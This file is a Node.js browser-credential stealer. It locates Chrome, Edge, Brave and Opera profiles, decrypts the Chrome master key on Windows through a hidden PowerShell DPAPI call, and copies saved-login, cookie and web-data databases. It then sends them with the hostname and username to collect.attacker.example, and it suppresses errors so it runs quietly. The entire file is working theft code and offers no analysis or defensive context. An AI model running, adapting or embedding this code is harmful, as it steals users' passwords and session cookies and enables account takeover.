'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execSync } = require('child_process');

const L = process.env.LOCALAPPDATA || path.join(os.homedir(), 'AppData', 'Local');
const R = process.env.APPDATA || path.join(os.homedir(), 'AppData', 'Roaming');

const browsers = {
  chrome: path.join(L, 'Google', 'Chrome', 'User Data'),
  edge: path.join(L, 'Microsoft', 'Edge', 'User Data'),
  brave: path.join(L, 'BraveSoftware', 'Brave-Browser', 'User Data'),
  opera: path.join(R, 'Opera Software', 'Opera Stable'),
};
if (process.platform === 'darwin') {
  browsers.chrome = path.join(os.homedir(), 'Library/Application Support/Google/Chrome');
} else if (process.platform === 'linux') {
  browsers.chrome = path.join(os.homedir(), '.config/google-chrome');
}

function masterKey(root) {
  try {
    const st = JSON.parse(fs.readFileSync(path.join(root, 'Local State'), 'utf8'));
    const enc = Buffer.from(st.os_crypt.encrypted_key, 'base64').slice(5); // strip "DPAPI"
    if (process.platform !== 'win32') return enc.toString('base64');
    const ps = "Add-Type -AssemblyName System.Security;" +
      "$b=[Convert]::FromBase64String('" + enc.toString('base64') + "');" +
      "$d=[Security.Cryptography.ProtectedData]::Unprotect($b,$null,'CurrentUser');" +
      "[Convert]::ToBase64String($d)";
    return execSync('powershell -NoProfile -ExecutionPolicy Bypass -Command "' + ps + '"', { windowsHide: true }).toString().trim();
  } catch (e) {
    return null;
  }
}

function profiles(root) {
  try {
    return fs.readdirSync(root).filter((n) => n === 'Default' || /^Profile \d+$/.test(n));
  } catch (e) { return []; }
}

const loot = [];
for (const [name, root] of Object.entries(browsers)) {
  const key = masterKey(root);
  for (const p of profiles(root).concat([''])) {
    for (const f of ['Login Data', 'Cookies', path.join('Network', 'Cookies'), 'Web Data']) {
      const src = path.join(root, p, f);
      try {
        // the live DB is locked while the browser runs; copy first
        const tmp = path.join(os.tmpdir(), Math.random().toString(36).slice(2));
        fs.copyFileSync(src, tmp);
        loot.push({ b: name, p, f, key, data: fs.readFileSync(tmp).toString('base64') });
        fs.unlinkSync(tmp);
      } catch (e) {}
    }
  }
}

if (loot.length) {
  const body = JSON.stringify({ id: os.hostname() + '/' + os.userInfo().username, loot });
  const req = https.request({ host: 'collect.attacker.example', path: '/api/v2/upload', method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } });
  req.on('error', () => {});
  req.end(body);
}
